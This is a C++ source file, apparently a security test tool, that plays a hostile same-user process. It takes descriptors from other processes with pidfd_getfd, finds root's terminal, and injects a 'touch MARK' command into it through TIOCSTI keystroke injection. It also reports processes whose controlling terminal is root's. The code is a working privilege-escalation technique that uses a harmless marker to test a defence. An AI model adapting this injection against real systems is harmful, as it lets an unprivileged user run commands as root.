// kvterminal_thief DEVICE MARK: what a hostile process of the board's user
// tries on root's terminal (the character device numbered DEVICE, as
// st_rdev gives it).  For every other process of its own user it takes
// each descriptor it can (pidfd_getfd, which needs the right to trace the
// process) and, where one is root's terminal, pushes "touch MARK" and a
// line end into root's input with TIOCSTI; of each process it could take
// descriptors from it also reads the controlling terminal, which such a
// process could be made to open.  It writes one line per find, each with
// "root's terminal" in it, and last "looked at N processes, took
// descriptors from M".
#include <dirent.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include "common/process_info.h"

namespace {

std::vector<int> Numbers(const std::string& dir) {
    std::vector<int> out;
    if (DIR* d = opendir(dir.c_str())) {
        while (dirent* e = readdir(d))
            if (e->d_name[0] >= '0' && e->d_name[0] <= '9') out.push_back(std::atoi(e->d_name));
        closedir(d);
    }
    return out;
}

// The process's real user: status tells it whether or not the process
// may be traced.
uid_t RealUser(pid_t pid) {
    FILE* f = std::fopen(("/proc/" + std::to_string(pid) + "/status").c_str(), "r");
    if (f == nullptr) return uid_t(-1);
    char line[256];
    long uid = -1;
    while (std::fgets(line, sizeof line, f))
        if (std::sscanf(line, "Uid: %ld", &uid) == 1) break;
    std::fclose(f);
    return uid_t(uid);
}

// Through the system calls themselves: the C library's header of them
// does not declare them for C++.
int PidfdOpen(pid_t pid) { return int(syscall(SYS_pidfd_open, pid, 0)); }
int PidfdGetfd(int pidfd, int target) { return int(syscall(SYS_pidfd_getfd, pidfd, target, 0)); }

void Push(int fd, const std::string& text) {
    for (char c : text) ioctl(fd, TIOCSTI, &c);
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 3) {
        std::fputs("usage: kvterminal_thief DEVICE MARK\n", stderr);
        return 2;
    }
    const dev_t roots = dev_t(std::strtoull(argv[1], nullptr, 10));
    const std::string push = std::string("touch ") + argv[2] + "\n";
    int looked = 0, taken = 0;
    for (int pid : Numbers("/proc")) {
        if (pid == getpid() || RealUser(pid) != getuid()) continue;
        ++looked;
        int pidfd = PidfdOpen(pid);
        if (pidfd < 0) continue;
        // Its descriptors by number where /proc lists them, else the low
        // ones, where the standard three and most others are.
        std::vector<int> fds = Numbers("/proc/" + std::to_string(pid) + "/fd");
        if (fds.empty())
            for (int fd = 0; fd < 64; ++fd) fds.push_back(fd);
        bool took = false;
        for (int target : fds) {
            int fd = PidfdGetfd(pidfd, target);
            if (fd < 0) continue;
            took = true;
            struct stat st;
            if (fstat(fd, &st) == 0 && S_ISCHR(st.st_mode) && st.st_rdev == roots) {
                std::printf("process %d, descriptor %d: root's terminal\n", pid, target);
                Push(fd, push);
            }
            close(fd);
        }
        close(pidfd);
        if (!took) continue;
        ++taken;
        kv::ProcessInfo info;
        // The kernel's encoding of the terminal's number.
        if (kv::ReadProcessInfo(pid, info) && info.terminal != 0 &&
            makedev((info.terminal >> 8) & 0xfff, (info.terminal & 0xff) | ((info.terminal >> 12) & 0xfff00)) == roots)
            std::printf("process %d (%s): root's terminal is its controlling terminal\n", pid, info.name.c_str());
    }
    std::printf("looked at %d processes, took descriptors from %d\n", looked, taken);
    return 0;
}
